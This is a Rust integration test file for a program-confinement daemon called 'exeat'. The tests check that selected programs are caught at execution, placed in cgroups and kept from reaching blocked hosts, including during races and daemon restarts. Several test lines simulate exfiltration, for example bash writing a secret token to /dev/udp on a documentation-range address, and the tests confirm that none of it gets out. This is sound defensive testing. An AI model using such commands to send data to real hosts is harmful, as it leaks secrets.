//! Programs that are caught when they are executed.

use super::{TO_OTHER, adopted, assert_free, assert_governed, free, policy, policy_without};
use exeat::identity::Sha256;
use exeat_tests::attack::PLAIN_USER;
use exeat_tests::puppet::{self, Puppet};
use exeat_tests::stage::Stage;
use exeat_tests::{count, programs, unique, wait};
use serde_json::Value;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Child, Stdio};

const TARGET: &str = "203.0.113.66";

/// A folder for programs, which every user may reach and no other test uses.
struct Programs(tempfile::TempDir);

impl Programs {
    fn new() -> Self {
        let folder = tempfile::Builder::new().prefix("exeat-adopt-").tempdir();
        let folder = folder.expect("folder");
        let mode = std::fs::Permissions::from_mode(0o755);
        std::fs::set_permissions(folder.path(), mode).expect("permissions");
        Self(folder)
    }

    fn path(&self, name: &str) -> PathBuf {
        self.0.path().join(name)
    }

    /// A copy of a program that has a digest of its own.
    fn copy(&self, of: &str, name: &str) -> PathBuf {
        let path = self.path(name);
        std::fs::create_dir_all(path.parent().expect("parent")).expect("folders");
        let mut bytes = std::fs::read(of).expect(of);
        bytes.extend(unique::token().into_bytes());
        programs::write(&path, &bytes, 0o755).expect("write");
        path
    }
}

fn digest_of(path: &Path) -> String {
    Sha256::of(&std::fs::read(path).expect("program")).to_string()
}

fn python() -> String {
    puppet::arguments()[0].clone()
}

/// A puppet of an ordinary user whose interpreter is this file.
fn puppet_of(stage: &Stage, program: &Path) -> Puppet {
    let mut command = stage.world.laptop.command_as(PLAIN_USER, program);
    command.args(&puppet::arguments()[1..]);
    Puppet::start(command).expect("puppet")
}

fn cgroup_of(pid: u32) -> String {
    let text = std::fs::read_to_string(format!("/proc/{pid}/cgroup")).expect("cgroup");
    let line = text.lines().find_map(|line| line.strip_prefix("0::"));
    line.expect("cgroup2").to_owned()
}

/// The number of live programs that status shows.
fn shown(stage: &Stage, path: &Path) -> usize {
    let what = Value::from(path.display().to_string());
    let all = adopted(stage);
    all.iter().filter(|found| found["what"] == what).count()
}

#[test]
fn each_selector_catches_its_program_and_its_children_and_nothing_else() {
    let programs = Programs::new();
    let agent = programs.copy(&python(), "one/agent");
    let renamed = programs.path("two/else");
    std::fs::create_dir_all(renamed.parent().expect("parent")).expect("folder");
    programs::copy(&agent, &renamed, 0o755).expect("copy");
    let root = programs.path("").display().to_string();
    let root = root.trim_end_matches('/');
    let stage = Stage::new(&policy_without(), "").expect("stage");
    let mut nobody = free(&stage);
    let before = cgroup_of(nobody.pid());
    for (selector, program) in [
        (format!("executable: {}", agent.display()), &agent),
        (format!("executable: \"{root}/*/agen?\""), &agent),
        (format!("sha256: {}", digest_of(&agent)), &renamed),
        (format!("programs_under: {root}/two"), &renamed),
    ] {
        let text = policy(std::slice::from_ref(&selector));
        stage.daemon.enforce(&text).expect("reload");
        let mut puppet = puppet_of(&stage, program);
        assert_governed(&mut puppet, &selector);
        let found = adopted(&stage);
        let found = found
            .iter()
            .find(|found| found["what"] == program.display().to_string());
        let found = found.unwrap_or_else(|| panic!("{selector}\n{}", stage.daemon.log()));
        assert_eq!(found["by"], selector.replace('"', ""), "{found}");
        let cgroup = cgroup_of(puppet.pid());
        let run = found["run"].as_str().expect("a run");
        assert!(cgroup.ends_with(&format!("/worker/{run}")), "{cgroup}");
        // A child is whatever program it likes.
        let child = format!(
            "import subprocess; subprocess.run(['{}', '-I', '-c', \"import socket; s = socket.socket(); s.settimeout(3); s.connect(('203.0.113.20', 80))\"], stderr=-3).returncode",
            python()
        );
        assert_eq!(puppet.value(&child).expect("child"), 1, "{selector}");
        assert_eq!(nobody.value(&child).expect("child"), 0, "{selector}");
        assert_free(&mut nobody, &selector);
    }
    assert_eq!(cgroup_of(nobody.pid()), before);
    // Where nothing matches it any more, a new one is free; see `cgroups` for those that were.
    stage.daemon.enforce(&policy_without()).expect("reload");
    assert_free(&mut puppet_of(&stage, &agent), "no selector");
    let event = |kind: &str| {
        let events = stage.daemon.events().expect("events");
        events.iter().filter(|event| event["kind"] == kind).count()
    };
    assert!(event("adopted") >= 4, "{:?}", stage.daemon.events());
}

#[test]
fn what_the_policy_does_not_identify_or_wall_in_is_not_executed() {
    let programs = Programs::new();
    let agent = programs.copy(&python(), "agent");
    let selector = format!("executable: {}", agent.display());
    let with = |more: &str| policy(std::slice::from_ref(&selector)) + more;
    let digest = digest_of(&agent);
    let other = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
    let stage = Stage::new(&policy_without(), "").expect("stage");
    for (more, kind) in [
        (
            format!("    identity: {{ sha256: [{other}] }}\n"),
            "identity_mismatch",
        ),
        ("    require: [seccomp]\n".to_owned(), "wall_missing"),
    ] {
        stage.daemon.enforce(&with(&more)).expect("reload");
        let mut command = stage.world.laptop.command_as(PLAIN_USER, &agent);
        let started = command.args(["-c", "pass"]).status();
        let error = started.expect_err("it is refused").raw_os_error();
        assert_eq!(error, Some(1), "{more}");
        let event = stage.daemon.event(|event| event["kind"] == kind);
        event.unwrap_or_else(|error| panic!("{more}: {error:#}"));
    }
    let right = format!("    identity: {{ sha256: [{digest}] }}\n");
    stage.daemon.enforce(&with(&right)).expect("reload");
    assert_governed(&mut puppet_of(&stage, &agent), "the right one");
}

/// Bash sends as soon as it has read its command line.
fn send(stage: &Stage, bash: &Path, payload: &str) -> Child {
    let line = format!("echo {payload} > /dev/udp/{TARGET}/4433");
    let mut command = stage.world.laptop.command_as(PLAIN_USER, bash);
    command.args(["-c", &line]).stderr(Stdio::null());
    command.spawn().expect("start")
}

#[test]
fn of_two_hundred_starts_that_send_at_once_none_gets_a_byte_out() {
    let programs = Programs::new();
    let bash = programs.copy("/bin/bash", "agent");
    let other = programs.copy("/bin/bash", "other");
    for selector in [
        format!("executable: {}", bash.display()),
        format!("sha256: {}", digest_of(&bash)),
    ] {
        let stage = Stage::new(&policy(&[selector]), "").expect("stage");
        let sink = stage
            .world
            .udp_sink(&format!("{TARGET}:4433"))
            .expect("sink");
        let (secret, fine) = (unique::token(), unique::token());
        // 200, or `EXEAT_STARTS`.
        let starts = count("EXEAT_STARTS", 200);
        std::thread::scope(|scope| {
            for _ in 0..8 {
                scope.spawn(|| {
                    for _ in 0..starts / 8 {
                        let mut child = send(&stage, &bash, &secret);
                        assert!(!child.wait().expect("wait").success());
                    }
                });
            }
            // Meanwhile another program is not held up.
            scope.spawn(|| {
                for _ in 0..20 {
                    assert!(send(&stage, &other, &fine).wait().expect("wait").success());
                }
            });
        });
        stage.world.settle(&stage.sniffer).expect("settle");
        assert_eq!(stage.sniffer.count(|p| p.contains(secret.as_bytes())), 0);
        assert_eq!(stage.sniffer.count(|p| p.contains(fine.as_bytes())), 20);
        drop(sink);
    }
}

#[test]
fn what_runs_already_is_found_and_its_sockets_are_judged() {
    let programs = Programs::new();
    let agent = programs.copy(&python(), "agent");
    let stage = Stage::new(&policy_without(), "").expect("stage");
    let mut puppet = puppet_of(&stage, &agent);
    let open = "import subprocess; bad = tcp('203.0.113.20', 80); good = tcp('203.0.113.10', 80); \
                child = subprocess.Popen(['/bin/sleep', '1000'])";
    assert_eq!(puppet.errno(open).expect("answer"), 0);
    let child = puppet.value("child.pid").expect("pid");
    let child = u32::try_from(child.as_u64().expect("a number")).expect("a pid");
    let text = policy(&[format!("executable: {}", agent.display())]);
    stage.daemon.enforce(&text).expect("reload");
    wait::until("it to be found", wait::patience(), || {
        (shown(&stage, &agent) == 1).then_some(())
    })
    .unwrap_or_else(|error| panic!("{error}\n{}", stage.daemon.log()));
    wait::until("its connection to end", wait::patience(), || {
        let errno = puppet.errno("bad.send(b'secret')").expect("answer");
        (errno != 0).then_some(())
    })
    .expect("ended");
    assert_eq!(
        puppet
            .errno("good.send(b'GET / HTTP/1.0\\r\\n\\r\\n')")
            .expect("answer"),
        0
    );
    assert_governed(&mut puppet, "moved");
    wait::until("its child to be moved", wait::patience(), || {
        cgroup_of(child).contains("/worker/").then_some(())
    })
    .expect("moved");
    assert_eq!(
        puppet.errno("child.kill(); child.wait()").expect("answer"),
        0
    );
}

#[test]
fn a_socket_that_is_handed_over_at_the_start_is_judged() {
    let programs = Programs::new();
    let agent = programs.copy(&python(), "agent");
    let stage = Stage::new(&policy(&[format!("executable: {}", agent.display())]), "");
    let stage = stage.expect("stage");
    let mut nobody = free(&stage);
    let hand_over = |to: &str, payload: &str| {
        format!(
            "import subprocess; s = tcp('{to}', 80); n = s.fileno(); \
             subprocess.run(['{}', '-I', '-c', \"import socket; socket.socket(fileno=%d).send(b'{payload}')\" % n], pass_fds=[n], stderr=-3).returncode",
            agent.display()
        )
    };
    let (secret, fine) = (unique::token(), unique::token());
    assert_eq!(
        nobody
            .value(&hand_over("203.0.113.20", &secret))
            .expect("ran"),
        1
    );
    assert_eq!(
        nobody
            .value(&hand_over("203.0.113.10", &fine))
            .expect("ran"),
        0
    );
    stage.world.settle(&stage.sniffer).expect("settle");
    assert_eq!(stage.sniffer.count(|p| p.contains(secret.as_bytes())), 0);
    assert_ne!(stage.sniffer.count(|p| p.contains(fine.as_bytes())), 0);
    assert_free(&mut nobody, "who handed it over");
}

#[test]
fn a_kill_and_a_restart_leave_no_gap() {
    let programs = Programs::new();
    let agent = programs.copy(&python(), "agent");
    let bash = programs.copy("/bin/bash", "shell");
    let other = programs.copy("/bin/bash", "other");
    let text = policy(&[
        format!("executable: {}", agent.display()),
        format!("executable: {}", bash.display()),
    ]);
    let mut stage = Stage::new(&text, "").expect("stage");
    let sink = stage
        .world
        .udp_sink(&format!("{TARGET}:4433"))
        .expect("sink");

    // Without a service manager that keeps things: what starts meanwhile is found afterwards.
    let mut before = puppet_of(&stage, &agent);
    stage.daemon.kill9().expect("kill");
    assert_governed(&mut before, "without a daemon");
    let mut meanwhile = puppet_of(&stage, &agent);
    assert_eq!(
        meanwhile
            .errno("bad = tcp('203.0.113.20', 80)")
            .expect("answer"),
        0
    );
    stage.daemon.restart().expect("restart");
    wait::until("it to be found", wait::patience(), || {
        (meanwhile.errno(TO_OTHER).expect("answer") == libc::EPERM).then_some(())
    })
    .expect("found");
    wait::until("its connection to end", wait::patience(), || {
        (meanwhile.errno("bad.send(b'secret')").expect("answer") != 0).then_some(())
    })
    .expect("ended");
    assert_governed(&mut before, "after the restart");

    // With one: it waits, and nothing else does.
    stage.daemon.with_fd_store().expect("restart");
    let kept = stage.daemon.fd_store().expect("store").names();
    assert!(
        kept.iter().any(|name| name.starts_with("programs-")),
        "{kept:?}"
    );
    stage.daemon.kill9().expect("kill");
    let (secret, fine) = (unique::token(), unique::token());
    // By a shell: what waits in its exec holds whatever its parent had open, the pipes too by
    // which other threads of this test learn that what they start has begun.
    let starts =
        "for n in 1 2 3 4 5 6 7 8; do \"$0\" -c \"$1\" 2> /dev/null & jobs=\"$jobs $!\"; done
        for job in $jobs; do wait $job && exit 9; done; exit 0";
    let line = format!("echo {secret} > /dev/udp/{TARGET}/4433");
    let mut shell = stage.world.laptop.command_as(PLAIN_USER, "/bin/sh");
    shell.args(["-c", starts]).arg(&bash).arg(&line);
    let mut shell = shell.spawn().expect("start");
    for _ in 0..20 {
        let mut fine = send(&stage, &other, &fine);
        assert!(fine.wait().expect("wait").success());
    }
    stage.world.settle(&stage.sniffer).expect("settle");
    assert_eq!(stage.sniffer.count(|p| p.contains(secret.as_bytes())), 0);
    assert!(shell.try_wait().expect("wait").is_none());
    stage.daemon.restart().expect("restart");
    let status = shell.wait().expect("wait");
    assert_eq!(status.code(), Some(0), "all of them were refused");
    stage.world.settle(&stage.sniffer).expect("settle");
    assert_eq!(stage.sniffer.count(|p| p.contains(secret.as_bytes())), 0);
    assert_eq!(stage.sniffer.count(|p| p.contains(fine.as_bytes())), 20);
    assert_governed(&mut before, "after another restart");
    drop(sink);
}
